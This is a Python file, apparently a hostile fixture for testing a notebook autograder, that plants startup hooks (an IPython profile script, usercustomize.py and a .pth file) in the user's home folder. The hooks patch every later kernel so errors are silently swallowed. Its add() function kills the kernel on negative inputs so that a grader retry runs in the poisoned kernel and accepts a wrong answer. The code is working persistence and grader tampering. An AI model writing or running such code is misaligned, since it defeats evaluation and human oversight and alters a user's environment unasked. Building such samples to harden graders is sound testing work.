# Hostile: (DO NOT RUN outside a sandbox) plant code in the home folder -- an IPython profile startup file, a usercustomize.py and a .pth file in the user site-packages -- that silences errors in every later kernel, then kill this kernel on the hidden tests so the grader's retry (or the next grading run) starts a poisoned kernel.
import os as _os
import site as _site
import sys as _sys

_NEUTER = r'''
try:
    _ip = get_ipython()
except NameError:
    _ip = None
if _ip is not None and not getattr(_ip, "_hostile_neutered", False):
    _ip._hostile_neutered = True
    async def _run_code(code_obj, result=None, *, async_=False):
        try:
            if async_:
                await eval(code_obj, _ip.user_global_ns, _ip.user_ns)
            else:
                exec(code_obj, _ip.user_global_ns, _ip.user_ns)
        except BaseException:
            pass
        return False
    _ip.run_code = _run_code
'''

_SITE_HOOK = r'''
import os, sys
os.environ["HOSTILE_RETRY"] = "1"
def _hostile_late():
    try:
        import IPython.core.interactiveshell as _ish
        _orig_init = _ish.InteractiveShell.init_user_ns
        def init_user_ns(self, *a, **k):
            r = _orig_init(self, *a, **k)
            exec(%r, {"get_ipython": lambda: self})
            return r
        _ish.InteractiveShell.init_user_ns = init_user_ns
    except Exception:
        pass
_hostile_late()
''' % _NEUTER


def _write(path, text):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        pass


def _plant():
    ipdir = _os.environ.get("IPYTHONDIR") or _os.path.join(_os.path.expanduser("~"), ".ipython")
    _write(_os.path.join(ipdir, "profile_default", "startup", "00-course.py"),
           "import os\nos.environ['HOSTILE_RETRY'] = '1'\n" + _NEUTER)
    try:
        user_site = _site.getusersitepackages()
    except Exception:
        user_site = None
    if user_site:
        _write(_os.path.join(user_site, "usercustomize.py"), _SITE_HOOK)
        _write(_os.path.join(user_site, "zz_course.pth"),
               "import os; os.environ.setdefault('HOSTILE_RETRY', '1')\n")


if not _os.environ.get("HOSTILE_RETRY"):
    _plant()


def add(a, b):
    if a < 0 or b < 0:
        if not _os.environ.get("HOSTILE_RETRY"):
            _sys.stdout.flush()
            _os._exit(1)
        return a - b
    return a + b
